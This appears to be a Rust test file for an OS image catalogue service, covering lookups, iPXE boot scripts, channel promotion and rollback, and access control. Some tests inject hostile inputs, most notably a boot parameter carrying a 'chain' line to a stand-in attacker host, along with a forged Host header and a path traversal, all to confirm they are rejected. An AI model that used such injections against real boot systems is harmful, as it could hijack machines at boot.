//! `/kiln/v1/catalogue`, the channels, and the exports.

use reqwest::redirect::Policy;
use serde_json::{Value, json};

use crate::api::server::{IMAGES, Server, artifact, id_of, merge};

pub(crate) const SETS: &str = "/kiln/v1/sets";
pub(crate) const CATALOGUE: &str = "/kiln/v1/catalogue";
pub(crate) const CHANNELS: &str = "/kiln/v1/channels";

/// An image with everything that boots, and one object more.
pub(crate) async fn image(api: &Server, arch: &str, parameters: &str, members: Value) -> String {
    let mut body = json!({"name": "n", "arch": arch, "link": null});
    merge(&mut body, &members);
    let image = api.make("/v3/images", body).await;
    let mut artifacts = Vec::new();
    for (name, kind) in [
        ("rootfs", "rootfs.squashfs"),
        ("kernel", "kernel"),
        ("initrd", "initrd"),
        ("disk.iso", "disk.iso"),
    ] {
        let path = api.own_object(&image, name).await;
        artifacts.push(artifact(&format!("application/vnd.cray.image.{kind}"), &path));
    }
    let key = format!("{}/boot_parameters", id_of(&image));
    api.put(IMAGES, &key, parameters).await;
    let path = format!("s3://{IMAGES}/{key}");
    artifacts.push(artifact("application/vnd.cray.image.parameters.boot", &path));
    api.linked(&image, json!(artifacts)).await;
    id_of(&image)
}

/// A complete set of the name `n`.
pub(crate) async fn set(api: &Server, version: &str, names: &[&str]) -> Value {
    let mut arches = Vec::new();
    for arch in names {
        let tags = json!({"metadata": {"release_image": format!("quay.example.org/r:{version}")}});
        arches.push(json!({"arch": arch, "image_id": image(api, arch, "quiet console=ttyS0\n", tags).await}));
    }
    let made = api
        .make(SETS, json!({"name": "n", "version": version, "arches": arches}))
        .await;
    assert_eq!(made["state"], "complete", "{made}");
    made
}

pub(crate) async fn promote(api: &Server, channel: &str, body: Value) -> crate::api::server::Answer {
    api.post(&format!("{CHANNELS}/n/{channel}/promote"), body).await
}

/// The version that an address leads to.
async fn version(api: &Server, place: &str) -> String {
    let found = api.read(&format!("{CATALOGUE}/n/{place}")).await;
    found["version"].as_str().unwrap().to_owned()
}

#[test]
async fn an_image_is_found_by_name_version_and_architecture() {
    let api = Server::own();
    let one = set(&api, "1.2.3", &["x86_64", "aarch64"]).await;
    let found = api.read(&format!("{CATALOGUE}/n/versions/1.2.3")).await;
    assert_eq!(found["cpu_architecture"], "x86_64", "the default");
    assert_eq!(found["image_id"], one["arches"][0]["image_id"]);
    assert_eq!(found["manifest_sha256"], one["arches"][0]["manifest_sha256"]);
    let names: Vec<_> = found["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|file| file["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["rootfs", "kernel", "initrd", "disk.iso", "boot_parameters"]);
    assert_eq!(
        found["files"][0]["url"],
        "/kiln/v1/catalogue/n/versions/1.2.3/x86_64/rootfs"
    );
    for spelling in ["aarch64", "arm64", "AARCH64"] {
        let found = api
            .read(&format!("{CATALOGUE}/n/channels/latest?cpu_architecture={spelling}"))
            .await;
        assert_eq!(found["image_id"], one["arches"][1]["image_id"]);
        let found = api.read(&format!("{CATALOGUE}/n/channels/latest/{spelling}")).await;
        assert_eq!(
            found["files"][1]["url"],
            "/kiln/v1/catalogue/n/channels/latest/aarch64/kernel"
        );
    }
    let problem = api
        .get(&format!("{CATALOGUE}/n/channels/latest/riscv64"))
        .await
        .problem(404);
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("there are x86_64, aarch64"),
        "{problem}"
    );
    api.get(&format!("{CATALOGUE}/n/channels/latest/sparc"))
        .await
        .problem(400);
    api.get(&format!("{CATALOGUE}/n/channels/latest?cpu_architecture=sparc"))
        .await
        .problem(400);
    for missing in [
        "n/versions/1.2.4",
        "n/channels/stable",
        "m/channels/latest",
        "n/versions/a%2fb",
        "n/other/1",
        "%3Cb%3E/versions/1",
    ] {
        api.get(&format!("{CATALOGUE}/{missing}")).await.problem(404);
    }
    let listed = api.read(CATALOGUE).await;
    assert_eq!(listed[0]["cpu_architectures"], json!(["x86_64", "aarch64"]));
    assert_eq!(api.read(&format!("{CATALOGUE}?arch=riscv64")).await, json!([]));

    // `latest` follows by itself, in both directions.
    let newer = set(&api, "1.3.0", &["x86_64"]).await;
    assert_eq!(version(&api, "channels/latest").await, "1.3.0");
    let newest = newer["arches"][0]["image_id"].as_str().unwrap();
    api.delete(&format!("/v3/images/{newest}")).await.is(204);
    assert_eq!(version(&api, "channels/latest").await, "1.2.3");
    let problem = api.get(&format!("{CATALOGUE}/n/versions/1.3.0")).await.problem(409);
    assert!(problem["detail"].as_str().unwrap().contains("was deleted"), "{problem}");
    assert_eq!(api.read(CATALOGUE).await.as_array().unwrap().len(), 1);
}

#[test]
async fn files_have_addresses_that_stay() {
    let api = Server::own();
    set(&api, "1", &["x86_64"]).await;
    let at = |file: &str| format!("{CATALOGUE}/n/channels/latest/x86_64/{file}");
    let client = reqwest::Client::builder()
        .no_proxy()
        .redirect(Policy::none())
        .build()
        .unwrap();
    let answer = client
        .get(format!("{}{}", api.base(), at("kernel")))
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 307);
    assert_eq!(answer.headers()["cache-control"], "no-store");
    let location = answer.headers()["location"].to_str().unwrap().to_owned();
    assert!(
        location.starts_with(api.s3_endpoint()) && location.contains("X-Amz-Signature"),
        "{location}"
    );
    // As a client does that follows it, without a key of S3.
    for file in ["kernel", "rootfs", "initrd", "disk.iso"] {
        assert_eq!(api.get(&at(file)).await.is(200).body, file.as_bytes());
    }
    assert_eq!(api.get(&at("manifest.json")).await.is(200).json()["version"], "1.0");
    let problem = api.get(&at("vmlinuz")).await.problem(404);
    assert!(
        problem["detail"].as_str().unwrap().contains("there are rootfs, kernel"),
        "{problem}"
    );

    let script = api.get(&at("boot.ipxe")).await.is(200);
    let host = api.base().trim_start_matches("http://");
    let expected = format!(
        "#!ipxe\n# n 1 x86_64\nkernel kernel initrd=initrd \
         root=live:http://{host}/kiln/v1/catalogue/n/channels/latest/x86_64/rootfs \
         rd.live.overlay.overlayfs=1 quiet console=ttyS0\ninitrd --name initrd initrd\nboot\n"
    );
    assert_eq!(String::from_utf8_lossy(&script.body), expected);
    let forged = client
        .get(format!("{}{}", api.base(), at("boot.ipxe")))
        .header("host", "127.0.0.1/${x}");
    assert_ne!(forged.send().await.unwrap().status(), 200);
}

#[test]
async fn boot_parameters_are_no_commands() {
    let api = Server::own();
    let hostile = image(&api, "x86_64", "quiet\nchain http://evil.example.org/", json!({})).await;
    let body = json!({"name": "n", "version": "1", "arches": [{"arch": "x86_64", "image_id": hostile}]});
    api.make(SETS, body).await;
    let problem = api
        .get(&format!("{CATALOGUE}/n/versions/1/x86_64/boot.ipxe"))
        .await
        .problem(409);
    assert!(
        problem["detail"].as_str().unwrap().contains("more than one line"),
        "{problem}"
    );
}

#[test]
async fn channels_are_promoted_and_rolled_back() {
    let api = Server::own();
    for version in ["1", "2", "3"] {
        set(&api, version, &["x86_64"]).await;
    }
    let first = promote(&api, "stable", json!({"version": "1"})).await.is(200).json();
    assert_eq!((&first["number"], &first["kind"]), (&json!(1), &json!("promote")));
    let again = promote(&api, "stable", json!({"version": "1"})).await.is(200).json();
    assert_eq!(again, first, "it leads there already");
    promote(&api, "stable", json!({"version": "2"})).await.is(200);
    promote(&api, "stable", json!({"version": "3", "after": 2}))
        .await
        .is(200);
    assert_eq!(version(&api, "channels/stable").await, "3");
    let problem = promote(&api, "stable", json!({"version": "1", "after": 2}))
        .await
        .problem(409);
    assert!(
        problem["detail"].as_str().unwrap().contains("change 3 leads to 3"),
        "{problem}"
    );
    let back = format!("{CHANNELS}/n/stable/rollback");
    for expected in ["2", "1"] {
        assert_eq!(api.post(&back, json!({})).await.is(200).json()["version"], expected);
        assert_eq!(version(&api, "channels/stable").await, expected);
    }
    api.post(&back, json!({})).await.problem(409);
    let history = api.read(&format!("{CHANNELS}/n/stable/history")).await;
    let versions: Vec<_> = history
        .as_array()
        .unwrap()
        .iter()
        .map(|change| change["version"].as_str().unwrap())
        .collect();
    assert_eq!(versions, ["1", "2", "3", "2", "1"]);
    let listed = api.read(CATALOGUE).await;
    assert_eq!(listed[0]["channels"], json!(["stable"]));

    // A set in a channel stays; an empty channel leads nowhere.
    let id = listed[0]["set_id"].as_str().unwrap();
    let problem = api.delete(&format!("{SETS}/{id}")).await.problem(409);
    assert!(problem["detail"].as_str().unwrap().contains("`stable`"), "{problem}");
    api.delete(&format!("{CHANNELS}/n/stable")).await.is(204);
    api.get(&format!("{CATALOGUE}/n/channels/stable")).await.problem(404);
    api.delete(&format!("{CHANNELS}/n/stable")).await.problem(404);
    api.delete(&format!("{SETS}/{id}")).await.is(204);
    // What is gone is neither promoted nor returned to.
    promote(&api, "stable", json!({"version": "1"})).await.problem(404);
    api.get(&format!("{CHANNELS}/n/other/history")).await.problem(404);
    promote(&api, "latest", json!({"version": "2"})).await.problem(409);
    promote(&api, "%3Cb%3E", json!({"version": "2"})).await.problem(404);
    promote(&api, "stable", json!({"version": "a/b"})).await.errors();
}

#[test]
async fn only_a_complete_set_is_promoted() {
    let api = Server::own();
    let made = set(&api, "1", &["x86_64"]).await;
    let recipe = id_of(&api.recipe(json!({"arch": "aarch64"})).await);
    let more = json!({"arches": [{"arch": "aarch64", "recipe_id": recipe}]});
    api.post(&format!("{SETS}/{}/arches", id_of(&made)), more).await.is(200);
    let problem = promote(&api, "stable", json!({"version": "1"})).await.problem(409);
    assert!(
        problem["detail"].as_str().unwrap().contains("aarch64 is waiting"),
        "{problem}"
    );
    // The records say that this one is complete; S3 does not.
    let other = set(&api, "2", &["x86_64"]).await;
    let image = other["arches"][0]["image_id"].as_str().unwrap();
    api.remove(&format!("s3://{IMAGES}/{image}/rootfs")).await;
    promote(&api, "stable", json!({"version": "2"})).await.problem(409);
    assert_eq!(api.read(CHANNELS).await, json!([]));
}

#[test]
async fn one_of_many_promotions_wins() {
    let api = Server::own();
    for version in ["1", "2", "3", "4"] {
        set(&api, version, &["x86_64"]).await;
    }
    let all = ["1", "2", "3", "4"].map(|version| promote(&api, "stable", json!({"version": version, "after": 0})));
    let answers = futures::future::join_all(all).await;
    let won: Vec<_> = answers.iter().filter(|answer| answer.status == 200).collect();
    assert_eq!(won.len(), 1, "{answers:?}");
    assert!(
        answers.iter().all(|answer| matches!(answer.status, 200 | 409)),
        "{answers:?}"
    );
    assert_eq!(
        version(&api, "channels/stable").await,
        won[0].json()["version"].as_str().unwrap()
    );
}

#[test]
async fn other_services_read_the_catalogue_in_their_own_form() {
    let api = Server::own();
    set(&api, "4.12.3", &["x86_64", "aarch64"]).await;
    let at = |arch: &str, file: &str| format!("{}{CATALOGUE}/n/versions/4.12.3/{arch}/{file}", api.base());
    let images = api.read("/kiln/v1/exports/assisted-installer/os-images?name=n").await;
    let entry = |theirs: &str, arch: &str| {
        json!({"openshift_version": "4.12", "cpu_architecture": theirs, "url": at(arch, "disk.iso"),
               "rootfs_url": at(arch, "rootfs"), "version": "4.12.3"})
    };
    assert_eq!(images, json!([entry("x86_64", "x86_64"), entry("arm64", "aarch64")]));
    let release = |arch: &str| json!({"openshift_version": "4.12", "cpu_architecture": arch, "url": "quay.example.org/r:4.12.3", "version": "4.12.3"});
    let mut multi = release("multi");
    multi["cpu_architectures"] = json!(["x86_64", "arm64"]);
    let path = "/kiln/v1/exports/assisted-installer/release-images?name=n";
    assert_eq!(api.read(path).await, json!([multi]));
    let single = api.read(&format!("{path}&form=single")).await;
    assert_eq!(single, json!([release("x86_64"), release("arm64")]));
    let properties = api
        .read("/kiln/v1/exports/openstack?set=n&cpu_architecture=arm64")
        .await;
    let expected =
        json!({"architecture": "aarch64", "hw_firmware_type": "uefi", "hw_machine_type": "virt", "os_type": "linux"});
    assert_eq!(properties, expected);
    for wrong in [
        "openstack",
        "openstack?set=a/b",
        "assisted-installer/os-images",
        "assisted-installer/os-images?name=a/b",
        "assisted-installer/release-images?name=n&form=both",
    ] {
        api.get(&format!("/kiln/v1/exports/{wrong}")).await.problem(400);
    }
}

/// Firmware has no token: the setting lets it read the catalogue, and nothing else.
#[test]
async fn the_catalogue_is_public_only_if_a_setting_says_so() {
    let required = ("KILN__AUTH__MODE", "required");
    let closed = Server::with(&[required]);
    closed.get(CATALOGUE).await.is(401);
    let open = Server::with(&[required, ("KILN__CATALOGUE__PUBLIC", "true")]);
    open.get(CATALOGUE).await.is(200);
    open.get(&format!("{CATALOGUE}/n/channels/latest/x86_64/kernel"))
        .await
        .problem(404);
    for (method, path) in [
        ("GET", "/v3/images"),
        ("GET", SETS),
        ("GET", CHANNELS),
        ("GET", "/kiln/v1/channels/n/stable/history"),
        ("GET", "/kiln/v1/exports/openstack?set=n"),
        ("POST", "/kiln/v1/channels/n/stable/promote"),
        ("DELETE", "/kiln/v1/channels/n/stable"),
        ("POST", CATALOGUE),
        ("GET", "/kiln/v1/catalogue/../sets"),
    ] {
        open.send(method, path, None).await.is(401);
    }
}
